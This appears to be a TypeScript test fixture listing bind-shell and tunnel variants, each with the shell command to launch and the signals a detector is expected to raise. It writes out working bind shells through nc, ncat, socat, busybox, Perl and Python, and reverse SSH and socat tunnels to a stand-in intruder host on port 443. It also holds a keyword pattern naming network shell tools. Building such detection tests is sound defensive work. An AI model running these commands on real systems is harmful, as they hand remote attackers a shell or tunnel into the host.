import {becomes, connects, lines, listens, python, ready, stays, throughFifo} from '../stage/scripts.ts';
import type {Variant} from '../stage/variant.ts';

const signs = ['owner-shell', 'owner-relay', 'owner-script'];
const words = /\b(nc|netcat|ncat|socat|busybox|shell|relay)\b/i;

type Given = Pick<Variant, 'id' | 'does' | 'start'> & Partial<Variant>;

const handsOver = (accepts: string): string => lines(accepts, becomes([0, 1, 2], '/bin/sh', 'sh'));

/** 7: the program waits for the intruder. */
const listening: readonly Given[] = [
  {id: 'listen-nc-e', does: 'nc -l -e', start: 'exec nc.traditional -l -s $HERE -p 7507 -e /bin/sh'},
  {id: 'listen-fifo-nc', does: 'mkfifo, sh -i, nc -l', start: throughFifo('nc.openbsd -l $HERE 7507')},
  {id: 'listen-ncat-e', does: 'ncat -l -k -e', start: 'exec ncat -l -k -e /bin/sh $HERE 7507'},
  {
    id: 'listen-socat-fork',
    does: 'socat TCP-LISTEN,fork EXEC',
    start: 'exec socat TCP-LISTEN:7507,bind=$HERE,fork EXEC:/bin/sh',
  },
  {id: 'listen-socat', does: 'socat TCP-LISTEN EXEC', start: 'exec socat TCP-LISTEN:7507,bind=$HERE EXEC:/bin/sh'},
  {id: 'listen-socat-udp', does: 'socat UDP-LISTEN EXEC', start: 'exec socat UDP-LISTEN:7507,bind=$HERE EXEC:/bin/sh'},
  {
    id: 'listen-busybox-nc',
    does: 'busybox nc -ll -e',
    start: 'exec busybox nc -ll -p 7577 -e /bin/sh',
    socket: /^tcp LISTEN \S+:7577$/,
  },
  {
    id: 'listen-sh-inherits',
    does: 'sh that was given a listener as its standard input',
    start: python(lines(listens('tcp', 7507), becomes([0], '/bin/sh', 'sh', '-c', 'sleep 10000; :'))),
  },
  {
    id: 'listen-python',
    does: 'Python listens, then would hand over to sh',
    start: python(handsOver(lines(listens('tcp', 7507), 's, _ = s.accept()'))),
  },
  {
    id: 'listen-perl',
    does: 'Perl listens, then would hand over to sh',
    start: `exec perl -e 'use IO::Socket::INET; $l = IO::Socket::INET->new(LocalAddr => "$HERE:7507", Listen => 1);
$s = $l->accept; open(STDIN, "<&", $s); open(STDOUT, ">&", $s); exec "/bin/sh"'`,
  },
  {id: 'listen-ncat-443', does: 'ncat -l -e on 443', start: 'exec ncat -l -k -e /bin/sh $HERE 443'},
];

const called = (from: number, given: Given): Variant => ({
  kind: 8,
  signs,
  only: 'conversations',
  answers: true,
  calls: {port: 7512, from},
  wrong: /^direction outbound$/m,
  ...given,
});

/** 8: the intruder calls from a port that is usual for a server. */
const calledFromUsualPorts: readonly Variant[] = [
  ...[443, 53, 80].map(from =>
    called(from, {
      id: `fifo-nc-called-from-${from}`,
      does: `mkfifo, sh -i, nc -l, called from ${from}`,
      start: throughFifo('nc.openbsd -l $HERE 7512'),
    }),
  ),
  called(443, {
    id: 'nc-e-called-from-443',
    does: 'nc -l -e, called from 443',
    start: 'exec nc.traditional -l -s $HERE -p 7512 -e /bin/sh',
  }),
  called(443, {
    id: 'socat-called-from-443',
    does: 'socat with a terminal, called from 443',
    start: 'exec socat TCP-LISTEN:7512,bind=$HERE EXEC:/bin/sh,pty,setsid,stderr',
  }),
  called(53, {
    id: 'socat-fork-called-from-53',
    does: 'socat, fork, called from 53',
    start: 'exec socat TCP-LISTEN:7512,bind=$HERE,fork EXEC:/bin/sh,stderr',
  }),
  called(53, {
    id: 'socat-udp-called-from-53',
    does: 'socat UDP-LISTEN, called from 53',
    start: 'exec socat UDP-LISTEN:7512,bind=$HERE EXEC:/bin/sh,stderr',
    calls: {port: 7512, from: 53, udp: true},
  }),
  called(80, {
    id: 'python-called-from-80',
    does: 'Python accepts, becomes sh, called from 80',
    start: python(handsOver(lines(listens('tcp', 7512), 's, _ = s.accept()'))),
  }),
];

const forwards = lines(
  listens('tcp', 7591),
  'c, _ = s.accept()',
  'd = socket.create_connection(("127.0.0.1", 7590))',
  'import threading',
  'def copy(a, b):',
  '  while data := a.recv(4096): b.sendall(data)',
  'threading.Thread(target=copy, args=(c, d)).start()',
  'threading.Thread(target=copy, args=(d, c)).start()',
  ready,
);

const sshKeys = `ssh-keygen -q -t ed25519 -N "" -f /srv/$ID.key`;

/** 9: a tunnel into the host. */
const tunnels: readonly Variant[] = [
  {
    kind: 9,
    id: 'socat-to-loopback',
    does: 'socat from the network to a port of loopback',
    start: 'exec socat TCP-LISTEN:7590,bind=$HERE,fork TCP:127.0.0.1:22',
    signs,
    words,
  },
  {
    kind: 9,
    id: 'python-forwards',
    does: 'Python forwards to loopback',
    start: lines(
      python(lines(listens('tcp', 7590).replace('$HERE', '127.0.0.1'), stays), '/usr/bin/python3').concat(' &'),
      'while ! grep -q 0100007F:1DA6 /proc/net/tcp; do sleep 0.02; done',
      python(forwards),
    ),
    printsReady: true,
    calls: {port: 7591},
    signs,
  },
  {
    kind: 9,
    id: 'sshd-remote-forward',
    does: 'ssh -R through the own sshd, on an address of the network',
    start: `${sshKeys}
/usr/sbin/sshd -D -h /srv/$ID.key -o AuthorizedKeysFile=/srv/$ID.key.pub -o StrictModes=no \\
  -o GatewayPorts=clientspecified -o ListenAddress=127.0.0.1:7593 -o PidFile=none &
while ! grep -q 0100007F:1DA9 /proc/net/tcp; do sleep 0.02; done
exec ssh -F none -N -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i /srv/$ID.key \\
  -p 7593 -R $HERE:7592:127.0.0.1:22 root@127.0.0.1`,
    needs: ['sshd', 'ssh', 'ssh-keygen'],
    signs: ['owner-program'],
    words: /tunnel|forward/i,
  },
  {
    kind: 9,
    id: 'ssh-out-to-443',
    does: 'ssh -R to the intruder on 443',
    start: 'exec ssh -F none -N -p 443 -o BatchMode=yes -R 7594:127.0.0.1:22 root@$THERE',
    needs: ['ssh'],
    waits: {tcp: 443},
    signs: ['owner-program'],
    words: /\bssh\b|tunnel/i,
  },
  {
    kind: 9,
    id: 'socat-out-to-443',
    does: 'socat from the intruder on 443 to a port of this host',
    start: `${python(lines(listens('tcp', 7595), stays), '/usr/bin/python3')} &
exec socat TCP:$THERE:443,retry=50,interval=0.1 TCP:$HERE:7595,retry=50,interval=0.1`,
    waits: {tcp: 443},
    only: 'conversations',
    socket: /^tcp ESTABLISHED \S+ $THERE:443$/,
    signs: [...signs, 'owner-program'],
    words,
  },
  {
    kind: 9,
    id: 'python-out-to-443',
    does: 'Python from the intruder on 443 to a port of this host',
    start: python(
      lines(
        connects('tcp', 443),
        'd = socket.socket(); d.bind(("$HERE", 7596)); d.listen(); c = socket.create_connection(("$HERE", 7596))',
        ready,
        'while data := s.recv(4096): c.sendall(data)',
      ),
    ),
    printsReady: true,
    waits: {tcp: 443},
    socket: /^tcp ESTABLISHED \S+ $THERE:443$/,
    signs,
  },
];

export const bindShells: readonly Variant[] = [
  ...listening.map(each => ({kind: 7, signs, words, ...each})),
  ...calledFromUsualPorts,
  ...tunnels,
];
